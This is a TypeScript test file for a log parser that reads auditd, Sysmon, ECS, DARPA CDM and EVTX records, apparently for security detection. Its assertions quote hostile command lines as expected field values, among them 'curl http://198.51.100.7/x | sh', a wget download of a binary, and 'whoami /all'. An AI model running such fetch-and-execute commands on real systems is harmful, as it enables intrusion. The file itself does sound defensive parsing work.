/** Readers on our own fixtures: every container and flavour, detection by content, gzip, places. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { join } from 'node:path';
import { openLogSource, readRecordBatches, readRecords, readRecordsFromLines, sniffContainer, type ReadOptions } from '../../src/logs/read.js';
import type { Issue } from '../../src/common/errors.js';
import type { LogRecord } from '../../src/logs/record.js';
import { hasSharedData, repoRoot, sharedData, tempDir } from '../helpers.js';

const fx = (name: string) => join(repoRoot, 'test', 'fixtures', 'logs', name);

async function readAll(path: string, opts: ReadOptions = {}): Promise<{ records: LogRecord[]; issues: Issue[] }> {
  const issues: Issue[] = [];
  const records: LogRecord[] = [];
  for await (const r of readRecords(path, { ...opts, onIssue: (i) => issues.push(i) })) records.push(r);
  return { records, issues };
}

test('auditd: records grouped by serial across interleaving, hex and split arguments decoded', async () => {
  const { records, issues } = await readAll(fx('auditd-mixed.log'));
  assert.equal(records.length, 11);
  assert.ok(records.every((r) => r.format === 'auditd'));
  // the one junk line is reported with its line number
  assert.equal(issues.length, 1);
  assert.equal(issues[0]!.code, 'auditd-parse');
  assert.equal(issues[0]!.place?.line, 13);
  const bySerial = new Map(records.map((r) => [r.fields.serial, r.fields]));
  const e501 = bySerial.get(501)!;
  assert.deepEqual(e501.argv, ['bash', '-c', 'echo hello world']);
  assert.equal(e501.cwd, '/home/alice/my docs'); // hex-encoded cwd
  assert.equal(e501.proctitle, 'bash -c echo hello world');
  assert.equal(e501.syscall_name, 'execve');
  assert.deepEqual(e501.record_types, ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE', 'EOE']);
  const e502 = bySerial.get(502)!;
  assert.deepEqual(e502.argv, ['python3', 'print("split across records")']);
  const e505 = bySerial.get(505)!;
  assert.equal(e505.saddr_family, 'inet');
  assert.equal(e505.saddr_address, '93.184.216.34');
  assert.equal(e505.saddr_port, 443);
  const e506 = bySerial.get(506)!;
  assert.equal(e506.saddr_family, 'inet6');
  assert.equal(e506.saddr_address, '2001:db8::1');
  assert.equal(bySerial.get(507)!.saddr_path, '/run/systemd/private');
  const login = bySerial.get(510)!;
  assert.equal(login.type, 'USER_LOGIN');
  assert.equal(login.res, 'success');
  assert.equal(login.addr, '10.0.0.5');
  const enriched = bySerial.get(511)!;
  assert.equal(enriched.node, 'web01');
  assert.equal(enriched.AUID, 'alice');
  // source location is the first line of the event
  assert.equal(records.find((r) => r.fields.serial === 503)!.source.line, 14);
});

test('auditd per-record mode yields one record per audit line (what Sigma auditd rules expect)', async () => {
  const src = await openLogSource(fx('auditd-mixed.log'), { auditd: 'records' });
  const recs: LogRecord[] = [];
  for await (const r of src.records()) recs.push(r);
  assert.equal(recs.length, 45);
  assert.equal(src.stats.sourceRecords, 45);
  const execve = recs.find((r) => r.fields.type === 'EXECVE' && r.fields.serial === 501)!;
  assert.equal(execve.fields.a0, 'bash');
  assert.equal(execve.fields.a2, 'echo hello world');
  const split = recs.find((r) => r.fields.type === 'EXECVE' && r.fields.serial === 502)!;
  assert.equal(split.fields.a1, 'print("split across records")');
  assert.equal(recs.find((r) => r.fields.type === 'SOCKADDR' && r.fields.serial === 505)!.fields.saddr_port, 443);
  assert.equal(recs[0]!.source.line, 1);
  assert.equal(recs[2]!.source.line, 3);
});

test('Sysmon for Linux in syslog lines and in JSON rows', async () => {
  const { records, issues } = await readAll(fx('sysmon-linux.log'));
  assert.deepEqual(issues, []);
  assert.deepEqual(records.map((r) => r.fields.EventID), [1, 3, 11, 5]);
  const p = records[0]!.fields;
  assert.equal(records[0]!.format, 'sysmon-linux');
  assert.equal(p.Provider_Name, 'Linux-Sysmon');
  assert.equal(p.Computer, 'ubuntu-web');
  assert.equal(p.CommandLine, 'curl -s -o /tmp/x.sh http://203.0.113.5/x.sh?a=1&b=2'); // entity decoded
  assert.equal(p.ParentImage, '/usr/bin/bash');
  assert.equal(p.TimeCreated, '2023-11-14T22:13:20.123456000Z');
  assert.equal(records[0]!.source.line, 2);
  const rows = await readAll(fx('sysmon-linux-rows.json'));
  assert.deepEqual(rows.records.map((r) => [r.format, r.fields.EventID, r.fields.Facility]), [
    ['sysmon-linux', 1, 'user'],
    ['sysmon-linux', 11, 'user'],
  ]);
});

test('Winlogbeat/ECS is flattened to the python-evtx shape, extras kept as dotted keys', async () => {
  const { records, issues } = await readAll(fx('winlogbeat-ecs.jsonl'));
  assert.deepEqual(issues, []);
  assert.ok(records.every((r) => r.format === 'ecs'));
  const f = records[0]!.fields;
  assert.equal(f.EventID, 1);
  assert.equal(f.Channel, 'Microsoft-Windows-Sysmon/Operational');
  assert.equal(f.Provider_Name, 'Microsoft-Windows-Sysmon');
  assert.equal(f.Computer, 'ws01.corp.local');
  assert.equal(f.EventRecordID, 5001);
  assert.equal(f.Image, 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(f.CommandLine, 'cmd.exe /c whoami /all');
  assert.equal(f.Execution_ProcessID, 2244);
  assert.equal(f['process.command_line'], 'cmd.exe /c whoami /all');
  assert.equal(f['host.name'], 'ws01.corp.local');
  assert.equal(records[1]!.fields.EventID, 4688);
  assert.equal(records[1]!.fields.NewProcessName, 'C:\\Windows\\System32\\whoami.exe');
});

test('DARPA CDM: unions unwrapped, subject and objects resolved from earlier records', async () => {
  const { records, issues } = await readAll(fx('cdm18.json'));
  assert.deepEqual(issues, []);
  assert.equal(records.length, 22);
  assert.ok(records.every((r) => r.format === 'cdm'));
  const subject = records.find((r) => r.fields.cdm_type === 'Subject' && r.fields.cid === 1501)!.fields;
  assert.equal(subject.cmdLine, 'wget http://198.51.100.7/drakon');
  assert.equal(subject.parentSubject, '00000000-0000-0000-0000-00000000000A');
  assert.equal(subject.username, 'admin');
  const write = records.find((r) => r.fields.type === 'EVENT_WRITE' && r.fields.predicateObjectPath === '/tmp/drakon')!.fields;
  assert.equal(write.subject_cid, 1501);
  assert.equal(write.subject_path, '/usr/bin/wget');
  assert.equal(write.object_kind, 'FileObject');
  assert.equal(write.hostName, 'ta1-theia-target');
  assert.equal(write.timestampNanos, 1523629201300000000);
  const connect = records.find((r) => r.fields.type === 'EVENT_CONNECT')!.fields;
  assert.equal(connect.object_remoteAddress, '198.51.100.7');
  assert.equal(connect.object_ipProtocol, 6);
  const open = records.find((r) => r.fields.type === 'EVENT_OPEN')!.fields;
  assert.equal(open.subject_unresolved, true); // subject never seen: said so, not invented
  // CDM19, pretty-printed objects one after another
  const v19 = await readAll(fx('cdm19-pretty.json'));
  assert.deepEqual(v19.issues, []);
  assert.deepEqual(v19.records.map((r) => r.fields.cdm_type), ['Subject', 'Event', 'Subject', 'Event']);
  assert.equal(v19.records[3]!.fields.subject_cmdLine, 'sh -c id');
  assert.equal(v19.records[3]!.fields.CDMVersion, '19');
});

const flat = { EventID: 1, Provider_Name: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'PC1', TimeCreated: '2020-01-01T00:00:00.0000000Z', EventRecordID: 7, Image: 'C:\\a.exe' };

test('content decides, not the name: gzip without .gz, JSON array in .log, JSONL in .txt', async () => {
  const t = tempDir();
  try {
    const gz = join(t.path, 'events.data');
    writeFileSync(gz, gzipSync(Buffer.from(JSON.stringify(flat) + '\n' + JSON.stringify({ ...flat, EventRecordID: 8 }) + '\n')));
    const src = await openLogSource(gz);
    assert.equal(src.compressed, true);
    assert.equal(src.container, 'jsonl');
    const recs: LogRecord[] = [];
    for await (const r of src.records()) recs.push(r);
    assert.deepEqual(recs.map((r) => r.fields.EventRecordID), [7, 8]);
    assert.equal(recs[1]!.source.line, 2);

    const arr = join(t.path, 'array.log');
    writeFileSync(arr, JSON.stringify([flat, { ...flat, EventRecordID: 9 }], null, 2));
    const a = await readAll(arr);
    assert.deepEqual(a.issues, []);
    assert.deepEqual(a.records.map((r) => [r.format, r.fields.EventRecordID, r.source.record]), [
      ['win-flat', 7, 0],
      ['win-flat', 9, 1],
    ]);
    assert.equal(a.records[1]!.source.line, 11);

    const evtxCopy = join(t.path, 'renamed.json');
    copyFileSync(fx('auditd-mixed.log'), evtxCopy);
    assert.equal((await openLogSource(evtxCopy)).container, 'auditd');
  } finally {
    t.cleanup();
  }
});

test('nested XML-as-JSON: #attributes, xmltodict @Name Data lists, UserData, numbers as strings', async () => {
  const t = tempDir();
  try {
    const p = join(t.path, 'nested.json');
    const ev1 = {
      Event: {
        System: {
          Provider: { '@Name': 'Microsoft-Windows-Security-Auditing', '@Guid': '{54849625-5478-4994-a5ba-3e3b0328c30d}' },
          EventID: { '@Qualifiers': '0', '#text': '4688' },
          TimeCreated: { '@SystemTime': '2021-05-01T10:00:00.1234567Z' },
          EventRecordID: '42',
          Channel: 'Security',
          Computer: 'DC1',
        },
        EventData: { Data: [{ '@Name': 'NewProcessName', '#text': 'C:\\x.exe' }, { '@Name': 'ProcessId', '#text': '0x10' }, { '@Name': 'Channel', '#text': 'collides' }] },
      },
    };
    const ev2 = {
      Event: {
        System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: 10, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS', TimeCreated: { '#attributes': { SystemTime: '2021-05-01T10:00:01Z' } } },
        EventData: { SourceProcessId: 1200, GrantedAccess: '0x1010', Flag: true, Empty: null },
      },
    };
    writeFileSync(p, JSON.stringify(ev1, null, 2) + '\n' + JSON.stringify(ev2, null, 2) + '\n');
    const { records, issues } = await readAll(p);
    assert.deepEqual(issues, []);
    assert.equal(records.length, 2);
    const a = records[0]!.fields;
    assert.equal(records[0]!.format, 'win-nested');
    assert.equal(a.EventID, 4688);
    assert.equal(a.Qualifiers, '0');
    assert.equal(a.Provider_Name, 'Microsoft-Windows-Security-Auditing');
    assert.equal(a.EventRecordID, 42);
    assert.equal(a.NewProcessName, 'C:\\x.exe');
    assert.equal(a.Channel, 'Security');
    assert.equal(a.EventData_Channel, 'collides');
    const b = records[1]!.fields;
    assert.equal(b.SourceProcessId, '1200');
    assert.equal(b.Flag, 'true');
    assert.equal(b.Empty, '');
    assert.equal(b.TimeCreated, '2021-05-01T10:00:01Z');
  } finally {
    t.cleanup();
  }
});

test('readRecordsFromLines (for workers) and sniffContainer', async () => {
  const lines = [
    { text: JSON.stringify(flat), line: 1, offset: 0 },
    { text: '{"broken":', line: 2, offset: 100 },
  ];
  const issues: Issue[] = [];
  const out: LogRecord[] = [];
  for await (const r of readRecordsFromLines(lines, 'mem.jsonl', { onIssue: (i) => issues.push(i) })) out.push(r);
  assert.equal(out.length, 1);
  assert.equal(issues[0]!.code, 'json-parse');
  assert.deepEqual(issues[0]!.place, { file: 'mem.jsonl', line: 2, offset: 100 });
  assert.equal(sniffContainer(Buffer.from('ElfFile\0xxxx')), 'evtx');
  assert.equal(sniffContainer(Buffer.from('  \n[ {')), 'json');
  assert.equal(sniffContainer(Buffer.from('{"a":1}\n{"a":2}\n')), 'jsonl');
  assert.equal(sniffContainer(Buffer.from('{\n  "a": 1\n}\n')), 'json');
  assert.equal(sniffContainer(Buffer.from('')), 'empty');
  assert.equal(sniffContainer(Buffer.from('hello world\nnot a log\n')), 'unknown');
  assert.equal(sniffContainer(Buffer.from(readFileSync(fx('sysmon-linux.log')))), 'xml-events');
});

test('missing file, directory, unknown content: Issues, no throw from readRecords', async () => {
  const t = tempDir();
  try {
    const junk = join(t.path, 'junk.bin');
    writeFileSync(junk, Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256)));
    for (const p of [join(t.path, 'nope.jsonl'), t.path, junk]) {
      const { records, issues } = await readAll(p);
      assert.equal(records.length, 0);
      assert.equal(issues.length, 1, p);
      assert.equal(issues[0]!.place?.file, p);
    }
  } finally {
    t.cleanup();
  }
});

test('.evtx files are dispatched to the EVTX reader by their magic bytes', { skip: hasSharedData ? false : 'no ../shared/data' }, async () => {
  const base = join(sharedData, 'logs', 'evtx-attack-samples');
  const manifest = JSON.parse(readFileSync(join(base, 'manifest.json'), 'utf8')) as { evtx_file: string; event_count: number }[];
  const t = tempDir();
  try {
    for (const row of manifest.slice(0, 8)) {
      // renamed, so only the content can tell
      const copy = join(t.path, 'sample.bin');
      copyFileSync(join(base, row.evtx_file), copy);
      const src = await openLogSource(copy);
      assert.equal(src.container, 'evtx');
      const { records, issues } = await readAll(copy);
      assert.deepEqual(issues, [], row.evtx_file);
      assert.equal(records.length, row.event_count, row.evtx_file);
      assert.ok(records.every((r) => r.format === 'evtx' && typeof r.fields.EventID === 'number'));
    }
  } finally {
    t.cleanup();
  }
});

test('auditd records inside JSON rows (Azure Log Analytics Syslog) are decoded per record', async () => {
  const { records, issues } = await readAll(fx('azure-syslog-auditd.json'));
  assert.deepEqual(issues, []);
  assert.deepEqual(records.map((r) => [r.format, r.fields.type, r.fields.node]), [
    ['auditd', 'SYSCALL', 'jump01'],
    ['auditd', 'EXECVE', 'jump01'],
  ]);
  assert.equal(records[1]!.fields.a2, 'curl http://198.51.100.7/x | sh');
  assert.equal(records[0]!.fields.syscall_name, 'execve');
  assert.equal(records[0]!.fields.Facility, 'authpriv');
});

test('an aborted read stops with the signal’s AbortError', async () => {
  const t = tempDir();
  try {
    const p = join(t.path, 'many.jsonl');
    writeFileSync(p, Array.from({ length: 50_000 }, (_, i) => JSON.stringify({ ...flat, EventRecordID: i })).join('\n'));
    const ac = new AbortController();
    let n = 0;
    await assert.rejects(
      (async () => {
        for await (const _ of readRecords(p, { signal: ac.signal })) if (++n === 10) ac.abort();
      })(),
      { name: 'AbortError' },
    );
    assert.ok(n < 50_000);
  } finally {
    t.cleanup();
  }
});

test('auditd grouping is bounded: a flood of one serial is capped and said so', async () => {
  const t = tempDir();
  try {
    const p = join(t.path, 'flood.log');
    const lines = ['type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes exit=0 pid=1 ppid=0 exe="/bin/x"'];
    for (let i = 0; i < 5000; i++) lines.push(`type=PATH msg=audit(1700000000.000:1): item=${i} name="/f${i}" nametype=NORMAL`);
    lines.push('type=EOE msg=audit(1700000000.000:1):');
    writeFileSync(p, lines.join('\n') + '\n');
    const { records, issues } = await readAll(p);
    assert.equal(records.length, 1);
    assert.equal(records[0]!.fields.dropped_records, 5002 - 4096);
    assert.deepEqual(issues.map((i) => [i.code, i.place?.line]), [['auditd-group-cap', 1]]);
  } finally {
    t.cleanup();
  }
});

test('JSON Lines in batches: the same records as one by one; UTF-8 checked per chunk, a character cut by a chunk boundary is no error', async () => {
  const dir = tempDir();
  try {
    // ~1.5 MB of two-byte characters: the gunzipped chunks (256 KiB) end inside characters; line 2000 has an invalid byte
    const lines: Buffer[] = [];
    for (let i = 1; i <= 4000; i++) {
      const line = Buffer.from(JSON.stringify({ EventID: 1, Computer: 'h', EventRecordID: i, Message: 'é'.repeat(150 + (i % 37)) }), 'utf8');
      lines.push(i === 2000 ? Buffer.concat([line.subarray(0, 40), Buffer.from([0xff]), line.subarray(40)]) : line);
    }
    const file = join(dir.path, 'many.jsonl.gz');
    writeFileSync(file, gzipSync(Buffer.concat(lines.flatMap((l) => [l, Buffer.from('\n')]))));
    const one = await readAll(file);
    assert.equal(one.records.length, 4000);
    assert.deepEqual(one.issues.map((i) => [i.code, i.place?.line]), [['invalid-utf8', 2000]]);
    const issues: Issue[] = [];
    const batches: LogRecord[][] = [];
    for await (const b of readRecordBatches(file, { onIssue: (i) => issues.push(i) })) batches.push(b);
    assert.ok(batches.length > 4, `${batches.length} batches`);
    assert.deepEqual(batches.flat(), one.records);
    assert.deepEqual(issues, one.issues);
  } finally {
    dir.cleanup();
  }
});
